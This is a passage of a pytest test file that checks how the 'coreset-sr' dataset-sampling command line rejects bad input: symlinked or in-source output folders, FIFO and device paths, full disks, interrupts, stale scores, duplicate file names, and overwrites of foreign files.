"""Bad-input catalogue of the ``coreset-sr`` command line (issue 10, CLI part).

Table-driven: every row of ``CASES`` is a user mistake (or an attack on the user's data through
the CLI) with the exit code it must give and the words its one-line message must contain.
Each row runs ``main(argv)`` in-process (same code path as the command, without paying a torch
import per case) inside ``untouched(DATA, LR)``: the source folders must be byte-identical (sha256
of every file, target of every symlink) afterwards. A handful of cases run as real subprocesses
(``python -m coreset_sampler``) to prove that no traceback reaches the terminal, that a closed
pipe (``| head -1``) ends quietly, and that a killed export's temporary files are cleaned.
"""
from __future__ import annotations

import dataclasses
import errno
import os
import shutil
import signal
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Callable

import numpy as np
import pytest
from PIL import Image

from coreset_sampler import Scores
from coreset_sampler.cli import main

CROP = STEP = 32
H, W = 64, 96
NAMES = ("flat", "gradient", "noise", "stripes")


# --------------------------------------------------------------------------- helpers


def call(capsys, *args):
    """``main()`` in-process: (exit code, stdout, stderr)."""
    try:
        code = main([str(a) for a in args])
    except SystemExit as e:  # argparse usage errors
        code = e.code
    out = capsys.readouterr()
    return code, out.out, out.err


def run(*args, timeout=120, **kw):
    env = dict(os.environ, PYTHONWARNINGS="ignore", OMP_NUM_THREADS="1")
    return subprocess.run([sys.executable, "-m", "coreset_sampler", *map(str, args)], capture_output=True,
                          text=True, env=env, timeout=timeout, **kw)


def one_error_line(err: str, prefix: str = "coreset-sr: error: ") -> str:
    lines = [line for line in err.splitlines() if line.strip() and not line.startswith("coreset-sr: warning:")]
    assert "Traceback" not in err, err
    assert len(lines) == 1, f"expected one line on stderr, got:\n{err}"
    assert lines[0].startswith(prefix), lines[0]
    return lines[0]


def _images(root: Path, seed: int = 0, names=NAMES) -> Path:
    rng = np.random.default_rng(seed)
    root.mkdir(parents=True, exist_ok=True)
    yy, xx = np.mgrid[0:H, 0:W]
    for name in names:
        if name == "flat":
            arr = np.full((H, W, 3), 120, np.uint8) + rng.integers(0, 3, (H, W, 3), dtype=np.uint8)
        elif name == "gradient":
            arr = np.stack([xx * 255 // W, yy * 255 // H, (xx + yy) * 255 // (H + W)], -1).astype(np.uint8)
        elif name == "noise":
            arr = rng.integers(0, 256, (H, W, 3), dtype=np.uint8)
        else:
            arr = np.repeat(((np.sin(xx / 1.7 + yy / 5.0) * 0.5 + 0.5) * 255).astype(np.uint8)[..., None], 3, -1)
        Image.fromarray(arr).save(root / f"{name}.png")
    return root


def _lr_folder(hr: Path, lr: Path) -> Path:
    """LR images with the SAME file names as HR (what makes ``--out/lr -> HR`` destructive)."""
    lr.mkdir(parents=True, exist_ok=True)
    for p in sorted(hr.glob("*.png")):
        with Image.open(p) as im:
            im.resize((W // 2, H // 2), Image.BICUBIC).save(lr / p.name)
    return lr


@dataclasses.dataclass
class WS:
    tmp: Path
    data: Path  # HR images (DATA)
    lr: Path  # their LR images, same names
    sub: Path  # sub-image scores of DATA
    whole_lr: Path  # whole-image scores of DATA with --lr LR

    def export(self, out, *extra, scores=None, data=None):
        return ["export", data or self.data, "--scores", scores or self.sub, "--out", out, "--no-progress", *extra]

    def export_lr(self, out, link="copy"):
        return ["export", self.data, "--scores", self.whole_lr, "--ratio", 0.5, "--skip-top", 0, "--link", link,
                "--out", out, "--no-progress"]


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("badcli")
    data = _images(tmp / "DATA")
    lr = _lr_folder(data, tmp / "LR")
    ws = WS(tmp, data, lr, tmp / "sub.safetensors", tmp / "whole_lr.safetensors")
    for argv in (["score", data, "--scorer", "interpolation", "--crop", CROP, "--step", STEP, "--out", ws.sub],
                 ["score", data, "--crop", 0, "--lr", lr, "--scorer", "interpolation", "--out", ws.whole_lr]):
        assert main([str(a) for a in argv] + ["--workers", "0", "--no-progress"]) == 0
    return ws


# --------------------------------------------------------------------------- the table


def _score_sobel(w, t):
    return ["score", w.data, "--scorer", "sobel", "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress",
            "--out", t / "s.safetensors"]


@dataclasses.dataclass
class Case:
    id: str
    argv: Callable  # (ws, tmp_path) -> argv, or (argv, [more folders to keep intact]); prepares files in tmp_path
    code: int
    needles: tuple = ()
    patch: Callable | None = None  # (monkeypatch) -> None: simulate a failing disk, an interrupt
    prefix: str = "coreset-sr: error: "
    check: Callable | None = None  # (ws, tmp_path) -> None: more assertions after the call


def _symlink(link: Path, target: Path) -> Path:
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target, target_is_directory=target.is_dir())
    return link


def _out_with_lr_link(tmp: Path, target: Path) -> Path:
    out = tmp / "core"
    _symlink(out / "lr", target)
    return out


def _fifo(tmp: Path) -> Path:
    p = tmp / "scores.safetensors"
    os.mkfifo(p)
    return p


def _junk(tmp: Path) -> Path:
    p = tmp / "junk.safetensors"
    p.write_bytes(b"not a safetensors file at all")
    return p


def _fail_writes(exc):
    def patch(mp):
        def fail(path, data):
            raise exc

        mp.setattr("coreset_sampler.export._write_new_file", fail)
    return patch


def _no_output_written(ws, tmp):
    core = tmp / "core"
    if core.is_dir():
        leftovers = [p.name for p in core.iterdir() if p.name != "lr"]
        assert not leftovers, leftovers


def _no_temp_left(ws, tmp):
    hidden = [p for p in tmp.rglob(".*") if p.name.endswith(".tmp")]
    assert not hidden, hidden


def _cuda_missing():
    import torch

    return not torch.cuda.is_available()


CASES = [
    # -- item 2: export never writes into source data (the two symlink attacks, and more) ---------------
    Case("export-copy-out-lr-symlink-to-HR", lambda w, t: w.export_lr(_out_with_lr_link(t, w.data), "copy"), 2,
         ("refusing to write", "core/lr", "resolves to", "DATA"), check=_no_output_written),
    Case("export-symlink-out-lr-symlink-to-LR", lambda w, t: w.export_lr(_out_with_lr_link(t, w.lr), "symlink"), 2,
         ("refusing to write", "core/lr", "resolves to", "LR folder"), check=_no_output_written),
    Case("export-symlink-out-lr-symlink-to-HR", lambda w, t: w.export_lr(_out_with_lr_link(t, w.data), "symlink"),
         2, ("refusing to write", "core/lr", "DATA")),
    Case("export-hard-out-lr-symlink-to-LR", lambda w, t: w.export_lr(_out_with_lr_link(t, w.lr), "hard"), 2,
         ("core/lr", "LR folder")),
    Case("export-copy-out-lr-symlink-to-LR", lambda w, t: w.export_lr(_out_with_lr_link(t, w.lr), "copy"), 2,
         ("core/lr", "LR folder")),
    Case("export-lr-symlink-to-out-itself", lambda w, t: w.export_lr(_out_with_lr_link(t, Path(".")), "copy"), 2,
         ("core/lr", "itself")),
    Case("export-out-is-symlink-to-DATA", lambda w, t: w.export(_symlink(t / "core", w.data)), 2,
         ("refusing to write", "DATA", "resolves to")),
    Case("export-out-under-symlink-to-DATA", lambda w, t: w.export(_symlink(t / "ln", w.data) / "core"), 2,
         ("DATA", "ln/core")),
    Case("export-out-is-dangling-symlink-into-DATA", lambda w, t: w.export(_symlink(t / "core", w.data / "new")), 2,
         ("refusing to write", "DATA/new")),
    Case("export-out-lr-dangling-symlink-into-LR",
         lambda w, t: w.export_lr(_out_with_lr_link(t, w.lr / "new")), 2, ("LR/new", "LR folder")),
    Case("export-out-is-DATA", lambda w, t: w.export(w.data), 2, ("DATA",)),
    Case("export-out-inside-DATA", lambda w, t: w.export(w.data / "core"), 2, ("inside DATA",)),
    Case("export-out-dotdot-into-DATA", lambda w, t: w.export(w.data / "x" / ".." / ".." / w.data.name / "c"),
         2, ("DATA",)),
    Case("export-whole-out-is-symlink-to-LR", lambda w, t: w.export_lr(_symlink(t / "core", w.lr)), 2,
         ("LR folder",)),
    Case("export-whole-out-inside-LR", lambda w, t: w.export_lr(w.lr / "core"), 2, ("LR folder",)),
    Case("plot-grid-out-inside-DATA",
         lambda w, t: ["plot", w.sub, "--grid", w.data, "--out", w.data / "grid.png"], 2, ("DATA", "grid.png")),
    Case("score-out-inside-DATA",
         lambda w, t: ["score", w.data, "--scorer", "sobel", "--out", w.data / "s.safetensors"], 2,
         ("refusing to write", "DATA")),
    Case("score-out-inside-LR",
         lambda w, t: ["score", w.data, "--crop", 0, "--lr", w.lr, "--scorer", "sobel", "--out", w.lr / "s.safetensors"],
         2, ("LR folder",)),
    # -- item 7: scores files that are not files ---------------------------------------------------------
    Case("select-scores-is-FIFO", lambda w, t: ["select", _fifo(t)], 1, ("FIFO", "scores.safetensors")),
    Case("export-scores-is-FIFO", lambda w, t: w.export(t / "core", scores=_fifo(t)), 1, ("FIFO",)),
    Case("info-scores-is-char-device", lambda w, t: ["info", "/dev/null"], 1, ("/dev/null", "character device")),
    Case("plot-scores-is-folder", lambda w, t: ["plot", t, "--out", t / "p.png"], 1, ("is a folder",)),
    Case("info-scores-missing", lambda w, t: ["info", t / "nope.safetensors"], 1, ("not found", "nope.safetensors")),
    Case("select-scores-junk", lambda w, t: ["select", _junk(t)], 1, ("junk.safetensors",)),
    Case("score-out-is-FIFO", lambda w, t: ["score", w.data, "--scorer", "sobel", "--out", _fifo(t)], 2,
         ("FIFO", "--out")),
    Case("select-out-is-char-device", lambda w, t: ["select", w.sub, "--out", "/dev/null"], 2,
         ("character device", "--out /dev/null")),
    Case("select-out-is-folder", lambda w, t: ["select", w.sub, "--out", t], 2, ("is a folder",)),
    Case("export-out-is-a-file", lambda w, t: w.export(_junk(t)), 1, ("not a folder",)),
    # -- item 7: devices -------------------------------------------------------------------------------
    Case("score-device-unknown", lambda w, t: ["score", w.data, "--device", "tpu9", "--out", t / "s.safetensors"],
         2, ("--device 'tpu9'",)),
    Case("score-device-cuda-index", lambda w, t: ["score", w.data, "--device", "cuda:99", "--out",
                                                  t / "s.safetensors"], 2, ("--device cuda:99",)),
    Case("score-device-meta", lambda w, t: ["score", w.data, "--device", "meta", "--out", t / "s.safetensors"], 2,
         ("--device meta", "not supported")),
    Case("demo-device-unknown", lambda w, t: ["demo", "--device", "gpu", "--out", t / "demo"], 2, ("--device 'gpu'",),
         check=lambda w, t: not (t / "demo").exists() or pytest.fail("demo started")),
    # -- item 7: out of space, permissions, Ctrl-C: the path is named, nothing half-written ----------------
    Case("export-no-space-left", lambda w, t: w.export(t / "core"), 1, ("No space left on device", "core/"),
         patch=_fail_writes(OSError(errno.ENOSPC, "No space left on device")), check=_no_temp_left),
    Case("export-permission-denied", lambda w, t: w.export(t / "core"), 1, ("Permission denied", "core/"),
         patch=_fail_writes(PermissionError(errno.EACCES, "Permission denied")), check=_no_temp_left),
    Case("export-whole-no-space-left", lambda w, t: w.export_lr(t / "core"), 1, ("No space left on device",),
         patch=lambda mp: mp.setattr("shutil.copyfile", lambda a, b, **k: (_ for _ in ()).throw(
             OSError(errno.ENOSPC, "No space left on device"))), check=_no_temp_left),
    Case("select-out-no-space-left", lambda w, t: ["select", w.sub, "--out", t / "keep.txt"], 1,
         ("No space left on device", "keep.txt"), check=_no_temp_left,
         patch=lambda mp: mp.setattr("os.fsync", lambda fd: (_ for _ in ()).throw(
             OSError(errno.ENOSPC, "No space left on device")))),
    Case("score-out-no-space-left", _score_sobel, 1, ("No space left on device", "s.safetensors"),
         patch=lambda mp: mp.setattr("os.fsync", lambda fd: (_ for _ in ()).throw(
             OSError(errno.ENOSPC, "No space left on device")))),
    Case("export-ctrl-c", lambda w, t: w.export(t / "core"), 130, ("interrupted", "rerun"),
         patch=_fail_writes(KeyboardInterrupt()), prefix="coreset-sr: interrupted", check=_no_temp_left),
    # -- scores that do not fit DATA --------------------------------------------------------------------
    Case("export-scores-of-another-dataset",
         lambda w, t: w.export(t / "core", data=_images(t / "other", seed=1, names=("flat", "zebra"))), 1,
         ("first mismatching key", "zebra_s")),
    Case("export-other-crop", lambda w, t: w.export(t / "core", "--crop", 64, "--step", 64), 2,
         (f"was scored with crop {CROP}, step {STEP}",)),
    Case("export-whole-scores-as-subimages", lambda w, t: w.export(t / "core", "--whole"), 2, ("whole images",)),
    Case("export-recorded-LR-folder-gone", lambda w, t: _lr_gone(w, t), 1, ("LR folder recorded", "gone")),
    # -- argument mistakes ------------------------------------------------------------------------------
    Case("select-ratio-over-1", lambda w, t: ["select", w.sub, "--ratio", 2], 2, ("ratio must be in (0, 1]",)),
    Case("export-ratio-plus-skip", lambda w, t: w.export(t / "core", "--ratio", .9, "--skip-top", .2), 2,
         ("ratio + skip-top",)),
    Case("score-missing-DATA", lambda w, t: ["score", t / "nope", "--out", t / "s.safetensors"], 1,
         ("data folder not found",)),
    Case("score-lr-with-subimages", lambda w, t: ["score", w.data, "--lr", w.lr, "--out", t / "s.safetensors"], 1,
         ("--lr needs whole images",)),
    Case("score-file-name-with-line-break", lambda w, t: _odd_names(w, t, "a\nb.png"), 1,
         ("'a\\nb.png'", "line break", "rename")),
    Case("score-file-name-not-utf8", lambda w, t: _odd_names(w, t, b"\xff.png"), 1, ("not valid UTF-8", "rename")),
    Case("score-empty-folder", lambda w, t: _odd_names(w, t, None), 1, ("no images", "empty")),
    Case("score-unknown-scorer", lambda w, t: ["score", w.data, "--scorer", "vgg", "--out", t / "s.safetensors"], 2,
         ("unknown scorer 'vgg'",)),
    Case("score-junk-weights", lambda w, t: ["score", w.data, "--scorer", _junk(t), "--workers", 0,
                                             "--out", t / "s.safetensors"], 1, ("junk.safetensors",)),
]


def _odd_names(w: WS, t: Path, name):
    """A folder whose one image has an odd file name (or no image at all)."""
    d = t / "empty"
    d.mkdir()
    if name is not None:
        target = os.path.join(os.fsencode(d), name) if isinstance(name, bytes) else d / name
        shutil.copyfile(w.data / "noise.png", target)
    return ["score", d, "--scorer", "sobel", "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress",
            "--out", t / "s.safetensors"], [d]


def _lr_gone(w: WS, t: Path) -> list:
    """Whole-image scores whose recorded LR folder has been moved away since scoring."""
    data, lr = _images(t / "d2"), t / "lr2"
    _lr_folder(data, lr)
    s = t / "s.safetensors"
    assert main(["score", str(data), "--crop", "0", "--lr", str(lr), "--scorer", "sobel", "--workers", "0",
                 "--out", str(s), "--no-progress"]) == 0
    lr.rename(t / "lr2_moved")
    return ["export", data, "--scores", s, "--out", t / "core", "--no-progress"]


def _scored_copy(w: WS, t: Path, whole_lr: bool = False) -> tuple[Path, Path, Path | None]:
    """A private copy of DATA (and LR) scored into t/s.safetensors, for cases that edit the images."""
    data = t / "d"
    shutil.copytree(w.data, data)
    lr = None
    argv = ["score", data, "--scorer", "interpolation", "--workers", 0, "--no-progress", "--out", t / "s.safetensors"]
    if whole_lr:
        lr = t / "l"
        shutil.copytree(w.lr, lr)
        argv += ["--crop", 0, "--lr", lr]
    else:
        argv += ["--crop", CROP, "--step", STEP]
    assert main([str(a) for a in argv]) == 0
    return data, t / "s.safetensors", lr


def _repaint(path: Path) -> None:
    """Same size, other pixels: what a user's image editor (or a re-export of DATA) does."""
    with Image.open(path) as im:
        arr = np.asarray(im.convert("RGB")).copy()
    arr[:8, :8] = 255 - arr[:8, :8]
    Image.fromarray(arr).save(path)


def _stale(cmd: str):
    def build(w: WS, t: Path):
        data, s, _ = _scored_copy(w, t)
        _repaint(data / "noise.png")
        argv = {"export": ["export", data, "--scores", s, "--out", t / "core", "--no-progress"],
                "select": ["select", s, "--out", t / "keep.txt"],
                "plot": ["plot", s, "--grid", data, "--out", t / "g.png"]}[cmd]
        return argv, [data]
    return build


def _stale_lr(w: WS, t: Path):
    data, s, lr = _scored_copy(w, t, whole_lr=True)
    _repaint(lr / "gradient.png")
    return ["export", data, "--scores", s, "--ratio", 0.5, "--skip-top", 0, "--out", t / "core", "--no-progress"], \
        [data, lr]


def _no_provenance(w: WS, t: Path):
    s = Scores.load(w.sub)
    md = {k: v for k, v in s.metadata.items() if k != "provenance"}
    Scores(s.values, keys=s.keys, metadata=md).save(t / "old.safetensors")
    return w.export(t / "core", scores=t / "old.safetensors")


def _bad_recorded(field: str, value):
    """A copy of the sub-image scores whose recorded layout (metadata ``data``) has ``field: value``."""
    def build(w: WS, t: Path):
        s = Scores.load(w.sub)
        md = dict(s.metadata)
        md["data"] = {**md["data"], field: value}
        Scores(s.values, keys=s.keys, metadata=md).save(t / "bad.safetensors")
        return w.export(t / "core", scores=t / "bad.safetensors")
    return build


def _rescore_into(*extra, data=None):
    """``score`` into a copy of the sub-image scores (interpolation, crop 32, step 32) with other settings."""
    def build(w: WS, t: Path):
        shutil.copy(w.sub, t / "s.safetensors")
        d = data(t) if data else w.data
        return ["score", d, "--workers", 0, "--no-progress", "--out", t / "s.safetensors", *extra]
    return build


def _unchanged_scores(w, t):
    assert (t / "s.safetensors").read_bytes() == w.sub.read_bytes()


CASES += [
    # -- item 1: scores checked against the images they were computed from ------------------------------
    Case("export-image-changed-since-scoring", _stale("export"), 2,
         ("1 source image(s) changed since scoring", "noise.png", "--rescore"), check=_no_output_written),
    Case("select-image-changed-since-scoring", _stale("select"), 2, ("changed since scoring", "noise.png"),
         check=lambda w, t: not (t / "keep.txt").exists() or pytest.fail("keep.txt written")),
    Case("plot-grid-image-changed-since-scoring", _stale("plot"), 2, ("changed since scoring", "noise.png")),
    Case("export-lr-image-changed-since-scoring", _stale_lr, 2, ("lr_sources", "gradient.png", "changed")),
    Case("export-scores-without-provenance", _no_provenance, 2, ("records no provenance", "old.safetensors")),
    # issue 19 item 10 (exp-meta-badcrop): a damaged recorded layout is named, not a traceback or a "--crop" never given
    Case("export-recorded-crop-not-a-number", _bad_recorded("crop", "x"), 2,
         ("bad.safetensors", "recorded data layout has crop 'x', not an integer >= 1", "rescore with: "),
         check=_no_output_written),
    Case("export-recorded-crop-negative", _bad_recorded("crop", -3), 2, ("recorded data layout has crop -3",),
         check=_no_output_written),
    Case("export-recorded-crop-zero", _bad_recorded("crop", 0), 2, ("recorded data layout has crop 0",),
         check=_no_output_written),
    Case("export-recorded-step-fraction", _bad_recorded("step", 2.5), 2, ("recorded data layout has step 2.5",),
         check=_no_output_written),
    Case("export-recorded-scale-text", _bad_recorded("scale", "2"), 2, ("recorded data layout has scale '2'",),
         check=_no_output_written),
    Case("score-into-scores-of-another-scorer", _rescore_into("--scorer", "sobel", "--crop", CROP, "--step", STEP),
         2, ("scorer is 'interpolation' in the scores file but 'sobel' here", "--rescore"), check=_unchanged_scores),
    Case("score-into-scores-of-another-scale",
         _rescore_into("--scorer", "interpolation", "--scale", 4, "--crop", CROP, "--step", STEP), 2,
         ("scale is 2 in the scores file but 4 here", "--rescore"), check=_unchanged_scores),
    Case("score-into-scores-of-another-crop",
         _rescore_into("--scorer", "interpolation", "--crop", 16, "--step", 16), 2,
         ("crop is 32 in the scores file but 16 here",), check=_unchanged_scores),
    Case("score-into-scores-of-other-folders",
         _rescore_into("--scorer", "interpolation", "--crop", CROP, "--step", STEP,
                       data=lambda t: _images(t / "other", seed=3)), 2, ("roots (data folders) is",), check=_unchanged_scores),
    Case("score-into-scores-whole-vs-subimages", _rescore_into("--scorer", "interpolation", "--crop", 0), 2,
         ("dataset is 'subimages' in the scores file but 'paired_folder' here",), check=_unchanged_scores),
    Case("score-into-unreadable-file",
         lambda w, t: ["score", w.data, "--scorer", "sobel", "--crop", CROP, "--out", _junk(t)], 2,
         ("exists and cannot be read", "--rescore")),
]

# -- whole-image scoring of a sub-image folder through its sources (--sources) -----------------------

def _subs(t: Path, w: WS) -> Path:
    """DATA's images cut as BasicSR cuts DIV2K (crop 32, step 32: 6 sub-images each)."""
    from coreset_sampler.data import extract_subimages

    extract_subimages(w.data, t / "sub", crop=CROP, step=STEP, progress=False)
    return t / "sub"


def _sources_case(*extra, sources=None, prepare=None):
    """``score SUB --sources SRC --crop 32 --step 32 ...``; ``sources(w, t)`` makes another SRC,
    ``prepare(w, t, sub, src)`` runs first (a scores file already there)."""
    def build(w: WS, t: Path):
        sub = _subs(t, w)
        src = sources(w, t) if sources else w.data
        if prepare is not None:
            prepare(w, t, sub, src)
        argv = ["score", sub, "--sources", src, "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress",
                "--out", t / "s.safetensors", *extra]
        return argv, [sub, src]
    return build


def _sources_without(name):
    def make(w: WS, t: Path) -> Path:
        shutil.copytree(w.data, t / "src")
        (t / "src" / name).unlink()
        return t / "src"
    return make


def _sources_shrunk(w: WS, t: Path) -> Path:
    shutil.copytree(w.data, t / "src")
    Image.open(t / "src" / "gradient.png").crop((0, 0, 40, 40)).save(t / "src" / "gradient.png")
    return t / "src"


def _prescored(*argv_extra):
    def prepare(w: WS, t: Path, sub: Path, src: Path) -> None:
        argv = ["score", sub, "--workers", 0, "--no-progress", "--out", t / "s.safetensors",
                *(src if a == "SRC" else a for a in argv_extra)]
        assert main([str(a) for a in argv]) == 0
        shutil.copy(t / "s.safetensors", t / "before.safetensors")
    return prepare


def _file_kept(w, t):
    assert (t / "s.safetensors").read_bytes() == (t / "before.safetensors").read_bytes()


CASES += [
    Case("score-sources-missing-source", _sources_case(sources=_sources_without("noise.png")), 2,
         ("--sources", "'noise_s001'", "noise_s001.png", "no source image 'noise'")),
    Case("score-sources-crop-outside-its-source", _sources_case(sources=_sources_shrunk), 2,
         ("--sources", "gradient.png", "is 40x40", "crop grid", "'gradient_s005'", "not inside it")),
    Case("score-sources-other-crop", _sources_case("--crop", 16), 2,
         ("--sources", "'flat_s001'", "is 32x32, not 16x16")),
    Case("score-sources-with-lr",
         lambda w, t: ["score", _subs(t, w), "--sources", w.data, "--lr", w.lr, "--out", t / "s.safetensors"], 2,
         ("--lr and --sources", "bicubic of the source")),
    Case("score-sources-with-sobel", _sources_case("--scorer", "sobel"), 2,
         ("--sources scores whole-image with a loss scorer", "sobel")),
    Case("score-sources-whole", _sources_case("--whole"), 2, ("--sources needs", "--crop > 0")),
    Case("score-sources-folder-missing", _sources_case(sources=lambda w, t: t / "nowhere"), 1,
         ("--sources folder not found", "nowhere")),
    Case("score-sources-crop-not-divisible-by-scale", _sources_case("--crop", 31), 2,
         ("--crop 31 must be divisible by --scale 2",)),
    Case("score-thresh-without-sources", lambda w, t: ["score", w.data, "--thresh", 8, "--out", t / "s.safetensors"],
         2, ("--thresh", "--sources")),
    Case("score-sources-two-folders",
         lambda w, t: ["score", w.data, w.lr, "--sources", w.data, "--out", t / "s.safetensors"], 2,
         ("--sources traces one folder", "got 2")),
    # an existing file of the other granularity is never silently replaced (issue 14)
    Case("score-whole-image-into-per-crop-scores",
         _sources_case(prepare=_prescored("--crop", CROP, "--step", STEP, "--per-crop")), 2,
         ("s.safetensors", "granularity is 'per_crop' in the scores file but 'whole_image' here", "--rescore"),
         check=_file_kept),
    Case("score-per-crop-into-whole-image-scores",
         _sources_case("--per-crop", prepare=_prescored("--sources", "SRC", "--crop", CROP, "--step", STEP)), 2,
         ("granularity is 'whole_image' in the scores file but 'per_crop' here", "--rescore"), check=_file_kept),
    Case("score-sources-other-step-than-recorded",
         _sources_case("--step", 16, prepare=_prescored("--sources", "SRC", "--crop", CROP, "--step",
                                                        STEP)), 2,
         # the files themselves say step 32 (issue 19): refused before the recorded step is compared
         ("cut with step 32, not step 16",), check=_file_kept),
    Case("score-subimages-whole-image-into-per-crop-scores",
         lambda w, t: (_prescored("--crop", CROP, "--step", STEP, "--per-crop")(w, t, w.data, w.data),
                       ["score", w.data, "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress", "--out",
                        t / "s.safetensors"])[1], 2,
         ("granularity is 'per_crop' in the scores file but 'whole_image' here", "--rescore"), check=_file_kept),
]


def _paired_copy(hr_extra=(), lr_extra=(), lr_drop=(), lr=True, argv_extra=()):
    """``score HR --crop 0 --lr LR`` on private copies of DATA and LR, with files added (a copy of
    noise.png under another name) or removed first; without ``lr`` the default sub-image mode."""
    def build(w: WS, t: Path):
        hr, lr_dir = t / "hr", t / "lr"
        shutil.copytree(w.data, hr)
        shutil.copytree(w.lr, lr_dir)
        for name in hr_extra:
            Image.open(w.data / "noise.png").save(hr / name)
        for name in lr_extra:
            Image.open(w.lr / "noise.png").save(lr_dir / name)
        for name in lr_drop:
            (lr_dir / name).unlink()
        argv = ["score", hr, "--scorer", "interpolation", "--workers", 0, "--no-progress", "--out", t / "s.safetensors"]
        argv += ["--crop", 0, "--lr", lr_dir] if lr else ["--crop", CROP, "--step", STEP]
        return argv + list(argv_extra), [hr, lr_dir]
    return build


def _export_lr_with(name):
    """Whole-image scores with --lr, then a second LR file of one key appears: export refuses."""
    def build(w: WS, t: Path):
        data, s, lr = _scored_copy(w, t, whole_lr=True)
        Image.open(lr / "noise.png").save(lr / name)
        return ["export", data, "--scores", s, "--ratio", 0.5, "--skip-top", 0, "--out", t / "core",
                "--no-progress"], [data, lr]
    return build


def _sources_with(name):
    def make(w: WS, t: Path) -> Path:
        shutil.copytree(w.data, t / "src")
        Image.open(w.data / "noise.png").save(t / "src" / name)
        return t / "src"
    return make


CASES += [
    # -- two files, one key (issue: paired folders that would pair one of them silently) ---------------
    Case("score-lr-two-HR-files-one-key", _paired_copy(hr_extra=["noise.jpg"]), 1,
         ("duplicate image stem", "'noise'", "hr/noise.jpg", "hr/noise.png", "rename or remove one")),
    Case("score-lr-two-LR-files-one-key", _paired_copy(lr_extra=["noise.bmp"]), 1,
         ("several LR images for key 'noise'", "lr/noise.bmp", "lr/noise.png", "keep one")),
    Case("score-lr-plain-and-x2-LR-names", _paired_copy(lr_extra=["noisex2.png"]), 1,
         ("several LR images for key 'noise'", "lr/noise.png", "lr/noisex2.png")),
    Case("score-lr-one-LR-file-fits-two-HR-keys",
         _paired_copy(hr_extra=["flatx2.png"], lr_extra=["flatx2.png"], lr_drop=["flat.png"]), 1,
         ("lr/flatx2.png", "pairs with two HR images", "key 'flat'", "key 'flatx2'", "rename one")),
    Case("score-subimages-two-files-one-stem", _paired_copy(hr_extra=["noise.jpg"], lr=False), 1,
         ("duplicate sub-image name stem 'noise'", "hr/noise.jpg", "hr/noise.png")),
    Case("score-subimages-x2-suffix-makes-one-stem", _paired_copy(hr_extra=["noisex2.png"], lr=False), 1,
         ("duplicate sub-image name stem 'noise'", "hr/noisex2.png", "trailing x2")),
    Case("score-sources-two-sources-one-stem", _sources_case(sources=_sources_with("noise.jpg")), 2,
         ("--sources", "duplicate source stem 'noise'", "src/noise.jpg", "src/noise.png")),
    Case("export-lr-two-LR-files-one-key", _export_lr_with("noise.jpg"), 1,
         ("several LR images for key 'noise'", "l/noise.jpg", "l/noise.png")),
]


def _scorer_raising(exc_factory):
    """Make ``make_scorer`` return a scorer whose ``score`` raises ``exc_factory()`` (Ctrl-C, CUDA OOM ...)."""
    def patch(mp):
        import coreset_sampler.scorers as scorers

        real = scorers.make_scorer

        def make(*a, **k):
            sc = real(*a, **k)
            sc.score = lambda ds: (_ for _ in ()).throw(exc_factory())
            return sc
        mp.setattr(scorers, "make_scorer", make)
    return patch


def _oom():
    import torch

    return torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 20.00 GiB")


_SCORE = _score_sobel

CASES += [
    Case("score-ctrl-c", _SCORE, 130, ("interrupted", "s.safetensors.partial", "rerun"),
         patch=_scorer_raising(KeyboardInterrupt), prefix="coreset-sr: interrupted"),
    Case("score-device-out-of-memory", _SCORE, 1, ("ran out of memory", "--batch-size"), patch=_scorer_raising(_oom)),
    Case("score-host-out-of-memory", _SCORE, 1, ("out of memory", "--batch-size"), patch=_scorer_raising(MemoryError)),
]


# -- issue 19: no option writes over what the user owns (items 1, 2 and 10) ------------------------------


def _kept(t: Path, w, name: str = "s.safetensors") -> Path:
    """A copy of the sub-image scores in t/keep (guarded: a write over it fails the case)."""
    (t / "keep").mkdir(exist_ok=True)
    return Path(shutil.copy(w.sub, t / "keep" / name))


def _kept_file(t: Path, name: str, make) -> Path:
    (t / "keep").mkdir(exist_ok=True)
    p = t / "keep" / name
    make(p)
    return p


def _foreign_st(p: Path) -> None:
    from safetensors.numpy import save_file

    save_file({"weight": np.zeros(4, np.float32)}, str(p))


def _weights(p: Path) -> None:
    shutil.copy(Path(__file__).resolve().parents[1] / "coreset_sampler" / "weights" / "srcnn_x2.safetensors", p)


def _rescore_over(make, name):
    def argv(w, t):
        target = _kept_file(t, name, make)
        return _score_sobel(w, t)[:-1] + [target, "--rescore"], [t / "keep"]
    return argv


CASES += [
    Case("score-rescore-over-an-image-of-another-dataset",
         lambda w, t: (_score_sobel(w, t)[:-1] + [_images(t / "S5", seed=1) / "noise.png", "--rescore"], [t / "S5"]),
         2, ("--out", "refusing to replace", "S5/noise.png", "not a coreset-sampler scores file", "another --out")),
    Case("score-rescore-over-a-text-file", _rescore_over(lambda p: p.write_text("notes\n"), "notes.txt"), 2,
         ("--out", "refusing to replace", "notes.txt", "not a coreset-sampler scores file")),
    Case("score-rescore-over-foreign-safetensors", _rescore_over(_foreign_st, "model.safetensors"), 2,
         ("refusing to replace", "model.safetensors", "format=None")),
    Case("score-rescore-over-a-foreign-checkpoint",  # --rescore removes OUT.partial: only our checkpoint
         lambda w, t: (_score_sobel(w, t)[:-1] + [t / "keep" / "s.safetensors", "--rescore"], [t / "keep"])
         if _kept_file(t, "s.safetensors.partial", lambda p: p.write_text("my notes\n")) else None,
         2, ("--out's checkpoint", "refusing to replace", "s.safetensors.partial", "not a coreset-sampler")),
    Case("score-rescore-over-junk-already-refused", _rescore_over(lambda p: p.write_bytes(b"junk" * 9), "j.safetensors"),
         2, ("refusing to replace", "j.safetensors", "36 bytes, no .safetensors header")),
    Case("score-out-is-the-scorer-weights",
         lambda w, t: (["score", w.data, "--scorer", _kept_file(t, "w.safetensors", _weights), "--crop", CROP,
                        "--step", STEP, "--workers", 0, "--no-progress", "--out", t / "keep" / "w.safetensors",
                        "--rescore"], [t / "keep"]),
         2, ("refusing to write", "w.safetensors", "which is the --scorer model file", "choose another --out")),
    Case("plot-out-is-the-scores-file", lambda w, t: (["plot", _kept(t, w), "--out", t / "keep" / "s.safetensors"],
                                                      [t / "keep"]),
         2, ("refusing to write", "s.safetensors", "which is the scores file", "choose another --out")),
